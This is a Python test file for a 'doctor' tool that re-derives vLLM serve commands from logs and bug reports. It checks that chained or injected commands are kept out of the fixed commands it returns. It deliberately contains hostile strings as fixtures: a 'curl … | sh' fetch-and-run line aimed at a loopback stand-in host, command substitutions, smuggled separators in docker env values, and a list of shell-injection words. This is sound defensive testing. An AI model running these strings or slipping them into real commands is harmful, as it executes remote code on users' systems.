"""A command from someone else's text is rebuilt, never replayed (issue 41, high item 1 and medium
item 2; docs/DESIGN.md "Commands from others' text").

A launch line doctor reads from a log or a bug report is not the user's: every command doctor
gives back for it (`fixed command` in text; `fixed_command`, each alternative's `fixed_command`
and `command.command` in --json) is the serve segment alone, each word quoted, and `shlex.split`
reads it back to the words doctor meant. What else the line ran is said apart in a note and in
`command.line_also_runs`. `--cmd` (the user's own line) keeps its shell byte for byte
(tests/doctor/test_as_written.py).
"""

from __future__ import annotations

import contextlib
import io
import json
import shlex
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from kvops.cli import main
from kvops.doctor.reading import shell_words

Run = Callable[..., tuple[int, str, str]]
PAYLOAD = "q9zq"  # what the report's other commands fetch: never in a command doctor gives back
CURL = f"curl -s http://127.0.0.1:9/{PAYLOAD} | sh"
OLD = "--vllm-version", "0.11.0"  # the offloading flags are unknown there: a fixed command removes them


def _report(tmp_path: Path, text: str) -> str:
    path = tmp_path / "report.md"
    path.write_text(text)
    return str(path)


def command_fields(result: dict[str, Any]) -> Iterator[str]:
    """Every command-shaped field of doctor's --json."""
    if result["command"] is not None:
        yield result["command"]["command"]
    for finding in result["findings"]:
        if finding["fixed_command"]:
            yield finding["fixed_command"]
        for alt in finding["alternatives"]:
            if alt["fixed_command"]:
                yield alt["fixed_command"]


def one_command(text: str) -> list[str]:
    """The words of `text` as shlex reads them, after checking that a shell runs one command:
    no unquoted operator, redirection, newline or comment."""
    ops = [w for w in shell_words.split(text) if w.op]
    assert not ops, f"{text!r} runs more than one command: {ops}"
    words = shlex.split(text)
    assert words == shlex.split(text, comments=True), f"{text!r} has a comment"
    return words


def test_a_reports_chain_is_cut_to_its_serve_command(kvops: Run, tmp_path: Path) -> None:
    """The issue's repro: `vllm serve ...; curl ... | sh` in a report's code block."""
    line = "VLLM_X=1 vllm serve deepseek-ai/DeepSeek-V3.2 --kv-offloading-backend native \\\n"
    line += f"    --kv-offloading-size 64; {CURL}"
    code, out, err = kvops("doctor", "--log", _report(tmp_path, f"```\n{line}\n```\n"), *OLD, "--json")
    result = json.loads(out)
    fields = list(command_fields(result))
    found = {f["id"]: f for f in result["findings"]}
    fixed = found["vllm-offload-flags-unsupported-release"]["fixed_command"]
    assert fixed == "VLLM_X=1 vllm serve deepseek-ai/DeepSeek-V3.2", err
    assert all(PAYLOAD not in f for f in fields) and len(fields) >= 2
    for field in fields:
        assert one_command(field)[:3] == ["VLLM_X=1", "vllm", "serve"]
    assert result["command"]["source"] == "log"
    assert result["command"]["line_also_runs"] == [f"; {CURL}"]
    assert f"the report's line also runs: ; {CURL}" in " ".join(result["notes"])
    text_code, text, _ = kvops("doctor", "--log", _report(tmp_path, f"```\n{line}\n```\n"), *OLD)
    shown = text.split("fixed command:\n", 1)[1].split("\n")[0]
    assert shown.strip() == fixed and (code, text_code) == (1, 1)
    assert f"note: the report's line also runs: ; {CURL}" in text


def test_a_substitution_in_a_reports_line_is_kept_as_text(kvops: Run, tmp_path: Path) -> None:
    """The issue's repro: `--served-model-name "x$(curl …|sh)"` and a docker `-e 'A;curl…|sh;#=1'`."""
    line = (
        "docker run --gpus all -e 'A;curl 127.0.0.1:9|sh;#=1' -e `id`=2 vllm/vllm-openai:v0.11.0 "
        '--model deepseek-ai/DeepSeek-V3.2 --served-model-name "x$(curl 127.0.0.1:9|sh)" '
        "--kv-offloading-size 64 --kv-offloading-backend native"
    )
    _code, out, err = kvops("doctor", "--log", _report(tmp_path, line + "\n"), "--json")
    result = json.loads(out)
    fields = list(command_fields(result))
    assert len(fields) >= 2, err
    for field in fields:
        words = one_command(field)
        assert "A;curl 127.0.0.1:9|sh;#=1" in words and "`id`=2" in words
        assert words[words.index("--served-model-name") + 1] == "x$(curl 127.0.0.1:9|sh)"
        assert "'x$(curl 127.0.0.1:9|sh)'" in field  # single-quoted: nothing expands
    said = [n for n in result["notes"] if "command substitution in" in n]
    assert said and "'x$(curl 127.0.0.1:9|sh)'" in said[0] and "nothing in it runs" in said[0]


def test_a_logged_args_key_with_shell_syntax_comes_back_quoted(kvops: Run, tmp_path: Path) -> None:
    """Medium item 2: a `non-default args:` key is a flag name doctor writes: quoted, never live."""
    log = (
        "INFO 01-01 00:00:00 [api_server.py:1] vLLM API server version 0.11.0\n"
        "INFO 01-01 00:00:00 [utils.py:1] non-default args: {'model': 'deepseek-ai/DeepSeek-V3.2', "
        f"'max_model_len; {CURL} #': 5, 'kv_offloading_size': 64}}\n"
    )
    _code, out, err = kvops("doctor", "--log", _report(tmp_path, log), "--json")
    result = json.loads(out)
    command = result["command"]["command"]
    assert f"--max-model-len; {CURL} #" in one_command(command), err
    for field in command_fields(result):
        one_command(field)


def test_the_users_own_cmd_keeps_its_shell(kvops: Run) -> None:
    """--cmd is the user's: the chain around the serve segment is given back as typed."""
    line = "source venv/bin/activate && vllm serve deepseek-ai/DeepSeek-V3.2 --kv-offloading-size 64 | tee x"
    _code, out, _err = kvops("doctor", "--cmd", line, *OLD, "--json")
    result = json.loads(out)
    found = {f["id"]: f for f in result["findings"]}
    fixed = found["vllm-offload-flags-unsupported-release"]["fixed_command"]
    assert fixed == "source venv/bin/activate && vllm serve deepseek-ai/DeepSeek-V3.2 | tee x"
    assert result["command"]["source"] == "cmd" and result["command"]["line_also_runs"] == []


# ---- property: hostile words anywhere in a report's launch line -------------------------------
HOSTILE = [
    ";",
    "|",
    "&&",
    "||",
    "$(curl 127.0.0.1:9|sh)",
    "`id`",
    "a\nb",
    "'",
    '"',
    "#x",
    "*",
    "?[a]",
    "a b",
    "$HOME",
    "\\",
    ">out",
    "x$(curl 127.0.0.1:9|sh)",
    "A;curl x|sh;#=1",
    "",
]
_word = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(alphabet="ab;|&$()`'\"#*?[]\n<> =\\{}!~", min_size=1, max_size=12),
).filter(lambda w: PAYLOAD not in w and not w.startswith("-") and w not in ("...", "…"))
_env_name = st.one_of(st.sampled_from(["VLLM_X", "CUDA_VISIBLE_DEVICES", "A_1"]), _word)
_joiner = st.sampled_from(["; ", " && ", " || ", " | ", " > log; ", "\n", " 2>&1 & "])


def _doctor_json(text: str) -> dict[str, Any]:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "report.md"
        path.write_text(text)
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(["doctor", "--log", str(path), *OLD, "--json"])
        assert code in (0, 1), err.getvalue()
        return dict(json.loads(out.getvalue()))


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    served=_word,
    env_name=_env_name,
    env_value=_word,
    joiner=_joiner,
    docker=st.booleans(),
    double_quoted=st.booleans(),
)
def test_every_command_field_reads_back_to_the_words_doctor_meant(
    served: str, env_name: str, env_value: str, joiner: str, docker: bool, double_quoted: bool
) -> None:
    # the report writes the name single-quoted (a literal), or the way, in double quotes
    # (a shell would run the substitution; doctor keeps its text): the word doctor means is `served`
    safe_in_double = not any(c in served for c in '"\\`$!')
    name = f'"{served}"' if double_quoted and safe_in_double else shlex.quote(served)
    flags = f"--served-model-name {name} --kv-offloading-size 64 --kv-offloading-backend native"
    env_word = f"{env_name}={env_value}"
    if docker:
        launch = f"docker run -e {shlex.quote(env_word)} vllm/vllm-openai:v0.11.0 --model m/x {flags}"
        expected_env = env_word
    else:
        valid = env_name.isidentifier() and env_name.isascii()
        prefix = f"{env_name}={shlex.quote(env_value)} " if valid else ""
        launch = f"{prefix}vllm serve m/x {flags}"
        expected_env = env_word if valid else None
    result = _doctor_json(f"```\n{launch}{joiner}{CURL}\n```\n")
    fields = list(command_fields(result))
    if "\n" in launch:  # a quoted newline: logs.py reads a launch line by line (and `\`-continued)
        assert all(PAYLOAD not in f for f in fields)
        event("a quoted newline: the launch line is not read whole")
        return
    assert result["command"] is not None and result["command"]["source"] == "log"
    assert any(f["fixed_command"] for f in result["findings"])  # the fix removes the offloading flags
    for field in fields:
        assert PAYLOAD not in field
        words = one_command(field)
        assert words[words.index("--served-model-name") + 1] == served
        if expected_env is not None:
            assert expected_env in words
        if "$(" in served or "`" in served:  # nothing in it expands: inside single quotes
            assert shlex.quote(served) in field
    also = result["command"]["line_also_runs"]
    if joiner != "\n":  # (on the next line, curl is not part of the launch line doctor read)
        assert also and PAYLOAD in also[-1]


@pytest.mark.parametrize(
    ("line", "launch"),
    [
        (f"bash -c 'pip install -U vllm && vllm serve m/x --max-model-len 4096; {CURL}'", ["vllm", "serve"]),
        (f"python3 -m vllm.entrypoints.openai.api_server --model m/x && {CURL}", ["python3", "-m"]),
        (  # (a bare sglang line is no launch hint of logs.py: never read, so never replayed)
            f"docker run lmsysorg/sglang python3 -m sglang.launch_server --model-path m/x || {CURL}",
            ["docker", "run"],
        ),
        (f"sudo -E env A=$(id) vllm serve m/x > /tmp/log 2>&1 & {CURL}", ["A=$(id)", "vllm", "serve"]),
    ],
    ids=["bash-c", "api-server", "sglang", "wrapped"],
)
def test_every_launcher_is_cut_to_its_serve_command(
    kvops: Run, tmp_path: Path, line: str, launch: list[str]
) -> None:
    _code, out, err = kvops("doctor", "--log", _report(tmp_path, f"```\n{line}\n```\n"), "--json")
    result = json.loads(out)
    assert result["command"] is not None, err
    for field in command_fields(result):
        assert PAYLOAD not in field
        assert one_command(field)[: len(launch)] == launch
    assert PAYLOAD in result["command"]["line_also_runs"][-1]


def test_a_reports_backslash_quoted_json_is_read_as_the_json_it_ran(kvops: Run, tmp_path: Path) -> None:
    """vllm#43093 pasted `'{\\"kv_connector\\":...}'` beside an error its server reached only
    after parsing that JSON: read with `\\"` as `"`, said in a note, never 'not valid JSON'; the
    command doctor gives back still holds only the serve command's words."""
    config = '{\\"kv_connector\\":\\"OffloadingConnector\\",\\"kv_role\\":\\"kv_both\\"}'
    line = f"vllm serve m --kv-transfer-config '{config}' && {CURL}"
    _code, out, err = kvops("doctor", "--log", _report(tmp_path, f"```\n{line}\n```\n"), "--json")
    result = json.loads(out)
    assert result["command"]["connector"] == "OffloadingConnector", err
    assert any('read as "' in note for note in result["notes"])
    evidence = [e for f in result["findings"] for e in f["evidence"]]
    assert not [e for e in evidence if "not valid JSON" in e]
    for command in command_fields(result):
        words = one_command(command)
        assert PAYLOAD not in command and words[:3] == ["vllm", "serve", "m"]
